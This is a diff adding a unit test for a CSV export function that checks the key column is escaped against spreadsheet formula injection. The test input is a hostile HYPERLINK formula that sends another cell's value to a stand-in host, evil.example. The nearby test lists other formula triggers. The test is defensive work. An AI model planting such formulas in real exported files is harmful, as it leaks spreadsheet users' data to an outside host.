@@ -71,6 +71,15 @@ describe('toCsv', () => {
     expect(toCsv([rec({})], { keys: 'omit' })).not.toContain('Cp01');
   });
 
+  it('guards the key column in every mode: a hostile server cannot plant a formula through a "key"', () => {
+    const hostile = '=HYPERLINK("https://evil.example/?k="&F3,"x")';
+    for (const keys of ['full', 'masked'] as const) {
+      const [, row] = parse(toCsv([rec({ key: hostile })], { keys }));
+      expect(row![5]!.startsWith("'="), keys).toBe(true);
+    }
+    expect(parse(toCsv([rec({ key: hostile })], { keys: 'full' }))[1]![5]).toBe(`'${hostile}`);
+  });
+
   it('guards free-text cells against formula injection but never numbers or dates', () => {
     const triggers = ['=1+1', '+1', '-2', '@SUM(A1)', '\tx', '\rx', '\nx', '\0x'];
     const rows = parse(
